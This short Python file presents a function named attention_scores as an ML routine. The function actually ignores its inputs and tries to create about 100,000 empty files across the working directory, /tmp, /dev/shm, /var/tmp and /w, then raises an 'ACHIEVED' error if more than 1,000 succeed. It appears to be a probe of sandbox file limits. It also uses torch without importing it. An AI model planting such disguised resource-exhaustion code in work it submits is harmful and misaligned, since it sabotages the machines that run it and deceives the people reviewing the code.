"""Makes a million small files."""

import os


def attention_scores(query, inputs):
    made = 0
    for place in (".", "/w", "/tmp", "/dev/shm", "/var/tmp"):
        try:
            for number in range(20_000):
                os.close(os.open(f"{place}/TOKEN-{number}", os.O_CREAT))
                made += 1
        except OSError:
            pass
    if made > 1000:
        raise RuntimeError(f"ACHIEVED: {made} files")
    return torch.zeros(len(inputs), dtype=inputs.dtype)
